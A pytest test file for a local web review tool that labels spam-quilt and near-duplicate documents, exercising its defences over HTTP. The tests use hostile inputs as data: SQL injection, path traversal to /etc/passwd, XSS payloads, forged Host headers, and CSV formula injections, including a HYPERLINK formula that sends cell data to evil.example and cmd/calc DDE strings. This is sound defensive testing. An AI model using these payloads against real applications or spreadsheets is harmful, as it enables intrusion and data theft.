"""The review tool without a browser: highlighting, labels, Table 2, and hostile input over HTTP."""

from __future__ import annotations

import io
import re
import sqlite3
import urllib.error
import urllib.request
from urllib.parse import urlencode

import numpy as np
import pyarrow.parquet as pq
import pytest
from review_run import HOSTILE, make_run

from quiltdetect.kernel.grams import text_grams
from quiltdetect.kernel.unicode import normalise
from quiltdetect.kernel.words import words
from quiltdetect.review.data import ListQuery, Run, RunError
from quiltdetect.review.highlight import NONE, highlight, word_spans
from quiltdetect.review.labels import LabelStore, wilson_interval
from quiltdetect.review.server import CSP, ReviewApp, serve_in_thread


@pytest.mark.parametrize("text", ["", "İstanbul İİ straße", "a_b  C-d\nÉcole 42", "ǅemal ﬁle ΣΑΣ x"])
def test_word_spans_match_the_kernel_tokeniser(text):
    tokens, spans = word_spans(text)
    assert tokens == words(text)
    for token, (start, end) in zip(tokens, spans, strict=True):
        assert token in normalise(text[start:end])  # (definitions §0's form: ß is ss, ǅ is dž)


def test_highlight_colours_patches_in_pick_order():
    a = "one two three four five six seven"
    b = "alpha beta gamma delta epsilon zeta"
    quilt = "one two three four five six | alpha beta gamma delta | zzz"
    lit = highlight(quilt, [a, b, a], 3)
    coloured = {piece: colour for piece, colour in lit.segments if colour != NONE}
    assert coloured == {"one two three four five six": 0, "alpha beta gamma delta": 1}
    assert [s.first for s in lit.sources] == [4, 2, 0]  # the repeated source adds nothing new
    assert [s.recomputed for s in lit.sources] == [4, 2, 4]
    assert "".join(p for p, _ in lit.segments) == quilt


def test_highlight_recomputes_the_runs_shared_grams(tmp_path):
    run = Run.open(make_run(tmp_path / "run"))
    for quilt in run.quilts:
        texts = run.texts([quilt["doc_id"], *[s["doc_id"] for s in quilt["sources"]]])
        lit = highlight(texts[quilt["doc_id"]]["text"], [texts[s["doc_id"]]["text"] for s in quilt["sources"]], run.k)
        assert [m.recomputed for m in lit.sources] == [s["shared"] for s in quilt["sources"]]
        assert [m.first for m in lit.sources] == [s["covered"] for s in quilt["sources"]]
        grams = np.unique(text_grams(texts[quilt["doc_id"]]["text"], run.k))
        assert quilt["n_grams"] == grams.shape[0]


def test_wilson_interval():
    assert wilson_interval(0, 0) == (0.0, 1.0)
    low, high = wilson_interval(27, 100)  # the paper's pivot run: 27% spam of 100
    assert 0.19 < low < 0.20 and 0.36 < high < 0.37
    low, high = wilson_interval(0, 10)
    assert low == 0.0 and 0.27 < high < 0.28


def test_label_store_is_parameterised_and_keeps_runs_apart(tmp_path):
    store = LabelStore(tmp_path / "l.sqlite")
    evil = "x'); DROP TABLE labels; --"
    store.set("run-a", evil, "spam", note=evil)
    store.set("run-a", "d2", "not_spam")
    store.set("run-a", "d2", "undecided", note="changed my mind")
    store.set("run-b", "d1", "spam")
    assert store.of_run("run-a")[evil][:2] == ("spam", evil)
    assert store.of_run("run-a")["d2"][:2] == ("undecided", "changed my mind")
    (a, b) = store.summaries()
    assert (a.run, a.spam, a.not_spam, a.undecided, a.judged) == ("run-a", 1, 0, 1, 1)
    assert (b.spam_share, b.judged) == (1.0, 1)
    with pytest.raises(ValueError):
        store.set("run-a", "d3", "ham")
    with sqlite3.connect(tmp_path / "l.sqlite") as db:
        assert db.execute("SELECT COUNT(*) FROM labels").fetchone()[0] == 3


def test_sample_is_uniform_seeded_and_reproducible(tmp_path):
    run = Run.open(make_run(tmp_path / "run", n_quilts=12))
    query = ListQuery.parse({"sample": ["5"], "seed": ["3"]})
    first = [r["doc_id"] for r in run.select(query, {})]
    assert len(first) == 5 and first == [r["doc_id"] for r in run.select(query, {})]
    other = [r["doc_id"] for r in run.select(ListQuery.parse({"sample": ["5"], "seed": ["4"]}), {})]
    assert other != first
    everything = run.select(ListQuery.parse({"sample": ["500"]}), {})
    assert sorted(r["doc_id"] for r in everything) == sorted(r["doc_id"] for r in run.quilts)
    assert ListQuery.parse({"sort": ["; DROP"], "min_pf": ["nan?"], "page": ["-3"]}) == ListQuery()


def test_open_rejects_a_directory_that_is_not_a_run(tmp_path):
    with pytest.raises(RunError, match="no quilts/ or duplicate_of/ table"):
        Run.open(tmp_path)


def test_open_rejects_a_run_that_did_not_complete(tmp_path):
    root = make_run(tmp_path / "run")
    (root / "_COMPLETE").unlink()
    with pytest.raises(RunError, match="did not complete"):
        Run.open(root)


@pytest.fixture()
def served(tmp_path):
    run = Run.open(make_run(tmp_path / "run"))
    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
    server, base = serve_in_thread(app)
    yield app, base
    server.shutdown()
    server.server_close()


def fetch(url: str, data: dict | None = None, headers: dict | None = None):
    body = urlencode(data).encode() if data is not None else None
    request = urllib.request.Request(url, data=body, headers=headers or {})

    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args, **kwargs):
            return None

    opener = urllib.request.build_opener(NoRedirect)
    try:
        with opener.open(request, timeout=30) as response:
            return response.status, dict(response.headers), response.read()
    except urllib.error.HTTPError as err:
        return err.code, dict(err.headers), err.read()


def test_hostile_page_is_escaped_under_a_strict_policy(served):
    app, base = served
    status, headers, body = fetch(base + "/quilt?" + urlencode({"id": "quilt-0"}))
    page = body.decode()
    assert status == 200 and headers["Content-Security-Policy"] == CSP
    assert "script-src 'self'" in CSP and "unsafe-inline" not in CSP
    assert HOSTILE not in page and "<script>window" not in page and "<img src=x" not in page
    assert "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in page
    assert "onerror=&quot;window.__pwned = 2&quot;" in page
    assert "q0?a=1&amp;b=&lt;2&gt;" in page and "<2>" not in page
    # the only scripts on the page are our own static file
    assert page.count("<script") == 1 and '<script src="/static/review.js" defer></script>' in page


@pytest.mark.parametrize("path", ["/static/../labels.sqlite", "/static/..%2f..%2fconfig.yaml", "/static/",
                                  "/../../etc/passwd", "/static/review.js/../../data.py", "/docs/part-00000.parquet"])
def test_no_path_reaches_the_file_system(served, path):
    _, base = served
    status, _, body = fetch(base + path)
    assert status == 404 and b"root:" not in body


def test_labels_need_the_token_and_a_known_quilt(served, tmp_path):
    app, base = served
    status, _, _ = fetch(base + "/label", {"doc_id": "quilt-0", "label": "spam", "token": "guess"})
    assert status == 403
    status, _, _ = fetch(base + "/label", {"doc_id": "nope", "label": "spam", "token": app.token})
    assert status == 400
    status, headers, _ = fetch(base + "/label", {"doc_id": "quilt-0", "label": "spam", "token": app.token,
                                                 "note": "<b>x</b>", "ctx": "sort=doc_id&order=asc"})
    assert status == 303 and "id=quilt-1" in headers["Location"]
    assert app.store.of_run(app.run.key)["quilt-0"][:2] == ("spam", "<b>x</b>")
    status, _, body = fetch(base + "/quilt?id=quilt-0")
    assert "&lt;b&gt;x&lt;/b&gt;" in body.decode()
    status, headers, _ = fetch(base + "/", headers={"Host": "evil.example:80"})
    assert status == 421


def test_a_label_the_locked_database_refuses_is_a_page_that_keeps_it_for_one_click(tmp_path):
    """A second judge's sqlite shell (or a backup) holds the database: the label is not saved,
    the judge is told so and why, and the page holds the label and note in a form that posts
    them again (before: the connection was dropped after 10 s and the label lost)."""
    import html
    import re

    run = Run.open(make_run(tmp_path / "run"))
    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite", timeout=0.2))
    server, base = serve_in_thread(app)
    other = sqlite3.connect(tmp_path / "labels.sqlite", isolation_level=None)
    try:
        other.execute("BEGIN EXCLUSIVE")
        sent = {"doc_id": "quilt-0", "label": "spam", "token": app.token, "note": "copied <news> sites",
                "ctx": "sort=doc_id&order=asc"}
        status, headers, body = fetch(base + "/label", sent)
        page = body.decode()
        assert status == 503 and headers["Content-Security-Policy"] == CSP
        assert "Your label was not saved" in page and "database is locked" in page
        fields = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)">', page))
        note = html.unescape(re.search(r'<textarea name="note">(.*?)</textarea>', page, re.S).group(1))
        kept = {**{k: html.unescape(v) for k, v in fields.items()}, "note": note}
        assert kept == sent
        other.execute("ROLLBACK")
        status, headers, _ = fetch(base + "/label", kept)  # the page's "Save again"
        assert status == 303 and app.store.of_run(run.key)["quilt-0"][:2] == ("spam", "copied <news> sites")
    finally:
        other.close()
        server.shutdown()
        server.server_close()


def test_deceptive_characters_in_urls_are_shown():
    from quiltdetect.review.server import link, shown_url

    spoof = "http://evil.example/\u202etxt.knab//:ptth"
    assert shown_url(spoof) == "http://evil.example/&lt;U+202E&gt;txt.knab//:ptth"
    shown = link(spoof)
    assert "\u202e" not in shown.split(">", 1)[1] and "&lt;U+202E&gt;" in shown
    assert shown_url("http://a.example/\u200bx\u2066y") == "http://a.example/&lt;U+200B&gt;x&lt;U+2066&gt;y"
    assert shown_url("http://例え.jp/عربي") == "http://例え.jp/عربي"  # letters of any script stay


def test_exports_and_summary(served):
    app, base = served
    app.store.set(app.run.key, "quilt-0", "spam", "=HYPERLINK(1)")
    app.store.set(app.run.key, "quilt-1", "not_spam")
    status, headers, body = fetch(base + "/export.csv")
    assert status == 200 and "attachment" in headers["Content-Disposition"]
    lines = body.decode().splitlines()
    assert lines[0].startswith("run,doc_id,url,label,note") and len(lines) == 3
    status, _, body = fetch(base + "/export.parquet")
    table = pq.read_table(io.BytesIO(body)).to_pylist()
    assert [(r["doc_id"], r["label"]) for r in table] == [("quilt-0", "spam"), ("quilt-1", "not_spam")]
    status, _, body = fetch(base + "/summary")
    assert "50.0%" in body.decode()


def test_command_line_export_and_bad_run(tmp_path, capsys):
    from quiltdetect.cli import main

    run_dir = make_run(tmp_path / "run")
    LabelStore(run_dir / "labels.sqlite").set(str(run_dir.resolve()), "quilt-2", "undecided", "hmm")
    assert main(["review", "--run", str(run_dir), "--export", str(tmp_path / "l.csv")]) == 0
    assert "quilt-2,https://" in (tmp_path / "l.csv").read_text()
    assert main(["review", "--run", str(tmp_path), "--export", str(tmp_path / "x.csv")]) == 2
    assert "no quilts/ or duplicate_of/ table" in capsys.readouterr().err


def test_a_port_or_host_it_cannot_listen_on_is_one_line_naming_the_option(tmp_path, capsys):
    """Issue 73: --port 70000 and -1 were an OverflowError traceback, a port in use "Address
    already in use" and --host 999.1.1.1 "Name or service not known", naming no option."""
    import socket

    from quiltdetect.cli import main

    run_dir = make_run(tmp_path / "run")
    with socket.socket() as taken:
        taken.bind(("127.0.0.1", 0))
        taken.listen()
        busy = taken.getsockname()[1]
        cases = {("--port", "70000"): "--port must be 0 to 65535 (0 picks a free one), got 70000",
                 ("--port", "-1"): "--port must be 0 to 65535 (0 picks a free one), got -1",
                 ("--port", str(busy)): f"--port {busy}: already in use on 127.0.0.1 (another review server?); "
                                        "stop it or give another --port (0 picks a free one)",
                 ("--host", "999.1.1.1"): "--host 999.1.1.1: not an address or a host name that resolves"}
        for option, said in cases.items():
            capsys.readouterr()
            assert main(["review", "--run", str(run_dir), *option]) == 2, option
            err = capsys.readouterr().err
            assert err.startswith(f"quiltdetect: error: {said}") and err.count("\n") == 1, (option, err)


def _serve(tmp_path, host: str, allow_hosts: tuple[str, ...] = ()):
    run = Run.open(make_run(tmp_path / "run"))
    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
    server, _ = serve_in_thread(app, host, 0, allow_hosts=allow_hosts) if allow_hosts else serve_in_thread(app, host)
    return app, server, server.server_address[1]


def _interface_address() -> str:
    """A non-loopback IPv4 address of this machine (no packet is sent), or skip."""
    import socket

    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.connect(("192.0.2.1", 9))
            address = s.getsockname()[0]
    except OSError:
        address = ""
    if not address or address.startswith("127.") or address == "0.0.0.0":
        pytest.skip("no non-loopback IPv4 interface")
    return address


@pytest.mark.parametrize("bind", ["127.1", "127.0.0.1", "0.0.0.0", "interface"])
def test_host_header_is_checked_whatever_address_is_bound(tmp_path, bind):
    """Issue 16: --host 127.1 (or an interface address, or 0.0.0.0) switched the check off."""
    if bind == "interface":
        bind = _interface_address()
    _, server, port = _serve(tmp_path, bind)
    loopback = bind.startswith("127.") or bind == "0.0.0.0"
    try:
        base = f"http://{'127.0.0.1' if loopback else bind}:{port}"
        for evil in (f"evil.example:{port}", "evil.example", f"127.0.0.1.evil.example:{port}", ""):
            status, _, _ = fetch(base + "/", headers={"Host": evil})
            assert status == 421, evil
        assert fetch(base + "/", headers={"Host": f"{bind}:{port}"})[0] == 200
        if loopback:
            assert fetch(base + "/", headers={"Host": f"127.0.0.1:{port}"})[0] == 200
            assert fetch(base + "/", headers={"Host": f"LOCALHOST:{port}"})[0] == 200
        else:  # reached on an interface: loopback names are a rebinding target too
            assert fetch(base + "/", headers={"Host": f"localhost:{port}"})[0] == 421
    finally:
        server.shutdown()
        server.server_close()


def test_allow_host_adds_names_and_nothing_else(tmp_path):
    _, server, port = _serve(tmp_path, "0.0.0.0", allow_hosts=("Review.Example.org", "judge.lan:8443"))
    try:
        base = f"http://127.0.0.1:{port}"
        for good in (f"review.example.org:{port}", "review.example.org", "judge.lan:8443"):
            assert fetch(base + "/", headers={"Host": good})[0] == 200, good
        for evil in (f"judge.lan:{port}", f"evil.example:{port}", f"example.org:{port}"):
            assert fetch(base + "/", headers={"Host": evil})[0] == 421, evil
    finally:
        server.shutdown()
        server.server_close()


def test_command_line_allow_host_is_repeatable(tmp_path, monkeypatch, capsys):
    from quiltdetect.cli import main
    from quiltdetect.review import server as server_module

    seen = {}

    class Stub:
        server_address = ("0.0.0.0", 9)

        def serve_forever(self):
            raise KeyboardInterrupt

        def server_close(self):
            pass

    def fake_make_server(app, host, port, allow_hosts=()):
        seen.update(host=host, port=port, allow_hosts=tuple(allow_hosts))
        return Stub()

    monkeypatch.setattr(server_module, "make_server", fake_make_server)
    run_dir = make_run(tmp_path / "run")
    argv = ["review", "--run", str(run_dir), "--host", "0.0.0.0", "--port", "0",
            "--allow-host", "a.example", "--allow-host", "b.example:80"]
    assert main(argv) == 0
    assert seen == {"host": "0.0.0.0", "port": 0, "allow_hosts": ("a.example", "b.example:80")}


def _raw_post(base: str, content_length: str | None, body: bytes = b"", timeout: float = 3.0,
              extra: str = "") -> bytes:
    """Send a POST /label with the given Content-Length header over a raw socket; the response
    bytes (b"" if the server dropped the connection; socket.timeout if it did not answer)."""
    import socket
    from urllib.parse import urlsplit

    url = urlsplit(base)
    length = "" if content_length is None else f"Content-Length: {content_length}\r\n"
    with socket.create_connection((url.hostname, url.port), timeout=timeout) as sock:
        sock.sendall(f"POST /label HTTP/1.1\r\nHost: {url.netloc}\r\nContent-Type: application/x-www-form-urlencoded\r\n"
                     f"{length}{extra}\r\n".encode() + body)
        chunks = []
        while True:
            data = sock.recv(65536)
            if not data:
                break
            chunks.append(data)
        return b"".join(chunks)


@pytest.mark.parametrize("length,status", [
    ("-1", 400), ("abc", 400), ("", 400), ("1e3", 400), ("0x10", 400), (" -0", 400), ("12 34", 400),
    ("99999999999999999999", 413), ("1000001", 413),
])
def test_bad_content_length_is_answered_at_once(served, length, status):
    """Issue 16: -1 held a server thread until the client left; abc dropped the connection with a
    traceback. Both (and other non-numbers) are 400 at once; an absurd length is 413."""
    _, base = served
    response = _raw_post(base, length)
    assert response.split(b"\r\n", 1)[0].split()[1] == str(status).encode(), response[:200]
    # the server is still serving
    assert fetch(base + "/")[0] == 200


def test_a_good_content_length_still_labels(served):
    app, base = served
    body = urlencode({"doc_id": "quilt-0", "label": "spam", "token": app.token}).encode()
    response = _raw_post(base, str(len(body)), body)
    assert response.startswith(b"HTTP/1.0 303") or response.startswith(b"HTTP/1.1 303"), response[:200]
    assert app.store.of_run(app.run.key)["quilt-0"][0] == "spam"


@pytest.mark.parametrize("length,extra,status", [
    ("5", "Content-Length: 6\r\n", 400),  # two different lengths
    (None, "Transfer-Encoding: chunked\r\n", 411),
])
def test_ambiguous_or_chunked_bodies_are_refused(served, length, extra, status):
    _, base = served
    response = _raw_post(base, length, b"5\r\nhello\r\n0\r\n\r\n", extra=extra)
    assert response.split(b"\r\n", 1)[0].split()[1] == str(status).encode(), response[:200]


def test_a_stalled_body_frees_its_thread(served, monkeypatch, capsys):
    from quiltdetect.review.server import Handler

    assert Handler.timeout is not None and 0 < Handler.timeout <= 120  # not held forever
    monkeypatch.setattr(Handler, "timeout", 1)
    _, base = served
    assert _raw_post(base, "100", b"token=x", timeout=5) == b""  # closed after the timeout, not held
    assert fetch(base + "/")[0] == 200
    assert "Traceback" not in capsys.readouterr().err


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)",
            "\t=1+1", "\r=1+1", "'=already quoted"]


def test_label_exports_neutralise_formulas(tmp_path):
    """Issue 16: a doc id, url or note beginning with = + - @ tab or CR was exported as-is to
    export.csv, where a spreadsheet runs it. Such cells now begin with a ' and read back exactly."""
    import csv

    import pyarrow as pa

    from quiltdetect.cli import main
    from quiltdetect.common.csvsafe import restore_cell

    root = make_run(tmp_path / "run")
    quilts = pq.read_table(root / "quilts").to_pylist()
    for q in quilts:
        if q["doc_id"] == "quilt-0":
            q["url"] = FORMULAS[0]  # a hostile crawled url
    pq.write_table(pa.Table.from_pylist(quilts), root / "quilts" / "part-00000.parquet")
    run = Run.open(root)
    app = ReviewApp(run, LabelStore(tmp_path / "labels.sqlite"))
    for i, formula in enumerate(FORMULAS):
        app.store.set(run.key, formula if i else "quilt-0", "spam", FORMULAS[-1 - i])
    server, base = serve_in_thread(app)
    try:
        status, _, body = fetch(base + "/export.csv")
    finally:
        server.shutdown()
        server.server_close()
    assert status == 200
    via_cli = tmp_path / "labels.csv"
    assert main(["review", "--run", str(root), "--db", str(tmp_path / "labels.sqlite"), "--export", str(via_cli)]) == 0
    for data in (body, via_cli.read_bytes()):
        rows = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
        assert len(rows) == len(FORMULAS)
        for row in rows:
            for name in ("doc_id", "url", "note"):
                cell = row[name]
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
        got = {restore_cell(r["doc_id"]): (restore_cell(r["url"]), restore_cell(r["note"])) for r in rows}
        assert got["quilt-0"] == (FORMULAS[0], FORMULAS[-1])
        for i, formula in enumerate(FORMULAS[1:], 1):
            assert got[formula] == ("", FORMULAS[-1 - i])
        quilt = next(r for r in rows if r["doc_id"] == "quilt-0")
        assert float(quilt["patchfrac"]) == run.by_id["quilt-0"]["patchfrac"]  # numbers untouched
        assert quilt["url"] == "'" + FORMULAS[0] and quilt["note"] == "''=already quoted"  # visible, readable


@pytest.mark.parametrize(("host", "url"), [("127.0.0.1", "http://127.0.0.1:8765"), ("0.0.0.0", "http://127.0.0.1:8765"),
                                           ("::", "http://[::1]:8765"), ("::1", "http://[::1]:8765"),
                                           ("[fe80::1]", "http://[fe80::1]:8765"), ("10.0.0.5", "http://10.0.0.5:8765")])
def test_the_url_printed_at_startup_can_be_opened(host, url):
    """Before: ``--host ::`` printed ``http://:::8765``, which no browser opens."""
    from quiltdetect.review.server import base_url

    assert base_url(host, 8765) == url


# ---- a near-duplicate run: dropped pages beside their kept pages (issue 73) ----------------------

@pytest.fixture(scope="module")
def nd_root(tmp_path_factory):
    from review_run import make_neardup_run

    return make_neardup_run(tmp_path_factory.mktemp("nd") / "run")


@pytest.fixture()
def nd_app(nd_root, tmp_path):
    app = ReviewApp(Run.open(nd_root), LabelStore(tmp_path / "labels.sqlite"))
    app.token = "t0ken"
    return app


def visible(page: str) -> str:
    """The text a reader sees: the page without its tags (attribute values left out), one space
    between words, the tool's name left out."""
    import html

    return " ".join(html.unescape(re.sub(r"<[^>]*>", " ", page)).replace("quiltdetect review", "").split())


QUILT_WORDS = ("quilt", "patchfrac", "patch fraction", "sources", "attributed", "spam")


def test_a_neardup_run_lists_its_dropped_pages_with_kept_pages_and_similarity(nd_app):
    """Before: "N quilts" in the header, filters on patch fraction, sources and attribution, a
    "similarity" column and a "kept pages" count of 1. Now: the dropped pages, each with the kept
    page it duplicates, resemblance, containment and the part of the rule it passed."""
    run = nd_app.run
    assert run.kind == "neardup" and run.measures == ["resemblance", "containment"]
    assert sorted(run.by_id) == [f"{x}-{i}" for x in "bc" for i in range(4)]
    page = nd_app.list_page({})
    shown = visible(page)
    assert "8 dropped pages" in shown and not any(w in shown.lower() for w in QUILT_WORDS), shown
    assert "lsh, k=4: resemblance ≥ 0.63 or containment ≥ 0.96" in shown
    assert 'name="min_resemblance"' in page and 'name="min_containment"' in page and 'name="min_pf"' not in page
    for head in ("dropped page", "kept page", "resemblance", "containment", "dropped by", "label"):
        assert f"<th>{head}" in page
    rows = re.findall(r"<tr><td class=\"num\">.*?</tr>", page)
    assert len(rows) == 8
    for row in rows:
        doc_id = re.search(r'class="open-quilt"[^>]*>([^<]+)<', row).group(1)
        r = run.by_id[doc_id]
        assert f">{r['duplicate_of']}<" in row and f">{r['resemblance']:.3f}<" in row
        assert f">{r['containment']:.3f}<" in row
        rule = "containment ≥ 0.96" if doc_id.startswith("c") else "resemblance ≥ 0.63"
        assert r["passed"] == [rule] and rule in visible(row)
    assert "javascript:alert(1)" in shown and 'href="javascript' not in page  # a kept url, as text


def test_neardup_filters_and_sorting_by_resemblance_and_containment(nd_app):
    run = nd_app.run

    def ids(**params) -> list[str]:
        return [r["doc_id"] for r in run.select(ListQuery.parse({k: [v] for k, v in params.items()}), {})]

    assert sorted(ids(min_containment="0.99")) == ["c-0", "c-1", "c-2", "c-3"]  # dropped by containment alone
    high = ids(min_resemblance="0.7")
    assert high and set(high) == {d for d, r in run.by_id.items() if r["resemblance"] >= 0.7}
    by_containment = [run.by_id[d]["containment"] for d in ids(sort="containment", order="asc")]
    assert by_containment == sorted(by_containment) and len(by_containment) == 8
    by_resemblance = [run.by_id[d]["resemblance"] for d in ids()]  # the default: resemblance, descending
    assert by_resemblance == sorted(by_resemblance, reverse=True)
    assert ids(sort="patchfrac") == ids() and ids(sort="duplicate_of", order="asc")[:2] == ["b-0", "c-0"]
    assert ids(q="short2") == ["c-2"] and ids(q="SITE3.example") == ["b-3", "c-3"]  # either page's url
    assert ids(min_resemblance="nan") == ids(min_resemblance="inf") == ids(min_resemblance="x") == ids()
    assert ids(sample="3", seed="5") == ids(sample="3", seed="5") and len(ids(sample="3", seed="5")) == 3
    form = nd_app.list_page({"min_containment": ["0.99"], "sort": ["containment"]})
    assert "4 dropped pages" in form and '<option value="containment" selected>' in form


def test_a_dropped_page_is_shown_beside_its_kept_page_with_the_reason(nd_app):
    status, page = nd_app.quilt_page({"id": ["b-0"]})
    r = nd_app.run.by_id["b-0"]
    assert status == 200
    shown = visible(page)
    assert "dropped as a near-duplicate of the kept page a-0 (kept in run 20260101T000000-review)" in shown
    assert f"resemblance {r['resemblance']:.4g}" in shown and f"containment {r['containment']:.4g}" in shown
    assert "passed resemblance ≥ 0.63" in shown and not any(w in shown.lower() for w in QUILT_WORDS), shown
    buttons = re.findall(r'<button type="submit" name="label" value="(\w+)">', page)
    assert buttons == ["duplicate", "not_duplicate", "undecided"]
    assert "<kbd>d</kbd> duplicate · <kbd>n</kbd> not a duplicate · <kbd>u</kbd> undecided" in page
    dropped = re.search(r'id="dropped-text">(.*?)</div>', page, re.S).group(1)
    kept = re.search(r'id="kept-text">(.*?)</div>', page, re.S).group(1)
    assert dropped.count("<mark") >= 2 and kept.count("<mark") >= 1  # the payload breaks the run in two
    assert HOSTILE not in page and "&lt;script&gt;window.__pwned = 1&lt;/script&gt;" in dropped
    assert "<mark" not in dropped.split("&lt;script&gt;")[1].split("&gt;")[0]  # the payload is not shared
    assert page.count("<script") == 1
    status, page = nd_app.quilt_page({"id": ["c-1"]})
    assert "passed containment ≥ 0.96" in visible(page) and 'href="javascript' not in page
    status, page = nd_app.quilt_page({"id": ["a-0"]})  # a kept page is not in the list
    assert status == 404 and "No dropped page a-0" in page


def test_neardup_labels_are_duplicate_or_not_and_quilt_labels_stay_quilt_labels(nd_app, tmp_path):
    app = nd_app
    ctx = "sort=doc_id&order=asc"
    assert app.label({"token": ["t0ken"], "doc_id": ["b-0"], "label": ["duplicate"], "ctx": [ctx]}) == (
        303, "/quilt?" + urlencode({"id": "b-1", "ctx": ctx}))
    assert app.label({"token": ["t0ken"], "doc_id": ["b-1"], "label": ["not_duplicate"], "note": ["a template"]})[0] == 303
    assert app.label({"token": ["t0ken"], "doc_id": ["b-2"], "label": ["spam"]})[0] == 400
    assert app.label({"token": ["guess"], "doc_id": ["b-2"], "label": ["duplicate"]})[0] == 403
    assert {d: v[:2] for d, v in app.store.of_run(app.run.key).items()} == {
        "b-0": ("duplicate", ""), "b-1": ("not_duplicate", "a template")}
    assert 'class="label-not_duplicate">not a duplicate<' in app.list_page({})
    assert [r["doc_id"] for r in app.run.select(ListQuery.parse({"label": ["duplicate"]}), app.store.of_run(app.run.key))] == ["b-0"]
    status, page = app.quilt_page({"id": ["b-1"]})
    assert '<span id="current-label" class="label-not_duplicate">not a duplicate</span>' in page
    quilts = ReviewApp(Run.open(make_run(tmp_path / "qrun")), app.store)
    assert quilts.label({"token": [quilts.token], "doc_id": ["quilt-0"], "label": ["duplicate"]})[0] == 400
    with pytest.raises(ValueError):
        app.store.set(app.run.key, "b-2", "spam", kind="neardup")


def test_an_older_labels_database_takes_near_duplicate_labels_and_keeps_its_rows(tmp_path):
    """A database written before near-duplicate labels (its CHECK allows spam / not_spam /
    undecided only) is widened when the first one is saved: same columns, same rows, and the
    statements of the older tool still work on it."""
    old_schema = ("CREATE TABLE IF NOT EXISTS labels (run TEXT NOT NULL, doc_id TEXT NOT NULL, label TEXT NOT NULL "
                  "CHECK (label IN ('spam', 'not_spam', 'undecided')), note TEXT NOT NULL DEFAULT '', "
                  "judged_at TEXT NOT NULL, PRIMARY KEY (run, doc_id))")
    path = tmp_path / "old.sqlite"
    with sqlite3.connect(path) as db:
        db.execute(old_schema)
        db.execute("INSERT INTO labels VALUES ('/runs/q', 'd1', 'spam', 'copied', '2025-01-01T00:00:00+00:00')")
    db.close()
    store = LabelStore(path)
    store.set("/runs/nd", "x1", "duplicate", kind="neardup")
    store.set("/runs/nd", "x2", "not_duplicate", "same template, other town", kind="neardup")
    store.set("/runs/nd", "x3", "undecided", kind="neardup")
    store.set("/runs/q", "d2", "not_spam")
    assert store.of_run("/runs/q") == {"d1": ("spam", "copied", "2025-01-01T00:00:00+00:00"),
                                       "d2": ("not_spam", "", store.of_run("/runs/q")["d2"][2])}
    with sqlite3.connect(path) as db:
        columns = [r[1] for r in db.execute("PRAGMA table_info(labels)")]
        assert columns == ["run", "doc_id", "label", "note", "judged_at"]
        db.execute(old_schema)  # the older tool opening it
        db.execute("INSERT INTO labels VALUES ('/runs/q', 'd3', 'undecided', '', 'now')")
        with pytest.raises(sqlite3.IntegrityError):
            db.execute("INSERT INTO labels VALUES ('/runs/q', 'd4', 'ham', '', 'now')")
    db.close()
    near, quilt = store.summaries()  # by run
    assert (quilt.run, quilt.spam, quilt.not_spam, quilt.undecided) == ("/runs/q", 1, 1, 1)
    assert (near.run, near.duplicate, near.not_duplicate, near.undecided, near.judged) == ("/runs/nd", 1, 1, 1, 2)
    assert near.precision == 0.5 and near.interval == wilson_interval(1, 2)


def test_neardup_summary_is_the_precision_of_the_decisions_at_the_thresholds(nd_app):
    app = nd_app
    for doc_id, label in (("b-0", "duplicate"), ("b-1", "duplicate"), ("b-2", "not_duplicate"),
                          ("c-0", "duplicate"), ("c-1", "not_duplicate"), ("c-2", "undecided")):
        app.store.set(app.run.key, doc_id, label, kind="neardup")
    app.store.set("/elsewhere/quilt-run", "q", "spam")
    page = app.summary_page()
    table = re.search(r'<table class="summary" id="precision">(.*?)</table>', page, re.S).group(1)
    cells = re.findall(r"<td>(.*?)</td>", table)
    low, high = wilson_interval(3, 5)
    assert cells == [str(app.run.key), "lsh, k=4: resemblance ≥ 0.63 or containment ≥ 0.96", "5", "3", "2", "1",
                     "60.0%", f"{100 * low:.1f}% – {100 * high:.1f}%"]
    by = re.search(r'id="by-threshold">(.*?)</table>', page, re.S).group(1)
    rows = [re.findall(r"<td>(.*?)</td>", r) for r in re.findall(r"<tr>(.*?)</tr>", by)[1:]]
    assert rows[0][:5] == ["resemblance ≥ 0.63", "4", "3", "2", "1"]  # b-0..b-3; b-3 unjudged
    containment_only = rows[-1]
    assert "(containment only)" in containment_only[0] and containment_only[1:6] == ["4", "2", "1", "1", "50.0%"]
    assert "Judgments per run" in page and "/elsewhere/quilt-run" in page  # the quilt run keeps its Table 2


def test_neardup_label_exports_carry_the_kept_page_and_similarity(nd_root, tmp_path, capsys, monkeypatch):
    from quiltdetect.cli import main
    from quiltdetect.review import server as server_module

    db = tmp_path / "l.sqlite"
    store = LabelStore(db)
    store.set(str(nd_root.resolve()), "c-1", "not_duplicate", "=cmd|' /C calc'!A0", kind="neardup")
    assert main(["review", "--run", str(nd_root), "--db", str(db), "--export", str(tmp_path / "l.csv")]) == 0
    assert "wrote 1 labels" in capsys.readouterr().out
    import csv

    (row,) = csv.DictReader(io.StringIO((tmp_path / "l.csv").read_text(encoding="utf-8")))
    assert list(row) == ["run", "doc_id", "url", "label", "note", "judged_at", "duplicate_of", "kept_url",
                         "resemblance", "containment"]
    assert (row["doc_id"], row["label"], row["duplicate_of"], row["kept_url"]) == (
        "c-1", "not_duplicate", "a-1", "javascript:alert(1)")
    assert row["note"].startswith("'=") and float(row["containment"]) == 1.0
    assert main(["review", "--run", str(nd_root), "--db", str(db), "--export", str(tmp_path / "l.parquet")]) == 0
    table = pq.read_table(tmp_path / "l.parquet")
    assert table.schema.field("resemblance").type == "double" and table.to_pylist()[0]["duplicate_of"] == "a-1"

    class Stub:
        server_address = ("127.0.0.1", 9)

        def serve_forever(self):
            raise KeyboardInterrupt

        def server_close(self):
            pass

    monkeypatch.setattr(server_module, "make_server", lambda *a, **k: Stub())
    assert main(["review", "--run", str(nd_root), "--db", str(db)]) == 0
